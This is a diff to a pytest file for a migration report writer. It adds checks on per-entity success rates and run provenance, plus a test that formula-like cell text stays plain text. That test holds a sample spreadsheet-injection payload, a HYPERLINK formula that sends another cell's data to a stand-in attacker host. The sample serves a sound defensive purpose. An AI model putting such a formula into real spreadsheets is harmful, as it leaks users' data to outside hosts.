@@ -122,6 +122,27 @@ def test_summary_lists_every_rule_and_the_reconciliation(built, workbook):  # no
     }
     assert reasons <= listed
     assert any(row[0] == "來源檔案" for row in summary)  # the reconciliation block
+    # the migration's success against the plan, per entity as validation.migration_metrics has it
+    metrics = {
+        r[0]: r[8]
+        for r in rows(
+            conninfo,
+            "select entity, null, null, null, null, null, null, null, success_rate"
+            " from validation.migration_metrics where level = 'entity'",
+        )
+    }
+    listed_metrics = {
+        row[0]: row[8] for row in summary if row and row[0] in metrics and row[1] is None
+    }
+    assert metrics and {k: float(v) for k, v in listed_metrics.items()} == {
+        k: float(v) for k, v in metrics.items()
+    }
+    # which dbt run each part comes from: the reconciliation's run is named
+    (run_id,) = rows(
+        conninfo, "select run_id from validation.reconciliation order by recorded_at desc limit 1"
+    )[0]
+    provenance = [row for row in summary if row and row[0] == "對帳"]
+    assert provenance and run_id[:8] in provenance[0][1]
     for ws in workbook.worksheets:
         assert ws.freeze_panes == "A2", ws.title
         assert ws.auto_filter.ref, ws.title
@@ -155,3 +176,16 @@ def test_report_on_an_unbuilt_database_is_one_clear_error(pg, tmp_path, capsys):
     finally:
         with psycopg.connect(pg.conninfo, autocommit=True) as admin:
             admin.execute(f'drop database if exists "{name}" with (force)')
+
+
+def test_a_cell_that_looks_like_a_formula_stays_text(tmp_path):
+    """Source text never becomes a formula, a link or a number in Mary's workbook."""
+    from loaders.report import Table, write_xlsx
+
+    hostile = '=HYPERLINK("http://evil.example/?d="&B2,"請點此更正")'
+    table = Table("C17", ["欄位", "值"], rows=[["區域", hostile], ["電話", "0912345678"]])
+    path = tmp_path / "x.xlsx"
+    write_xlsx([table], path)
+    ws = openpyxl.load_workbook(path)["C17"]
+    assert (ws["B2"].value, ws["B2"].data_type) == (hostile, "s")
+    assert (ws["B3"].value, ws["B3"].data_type) == ("0912345678", "s")
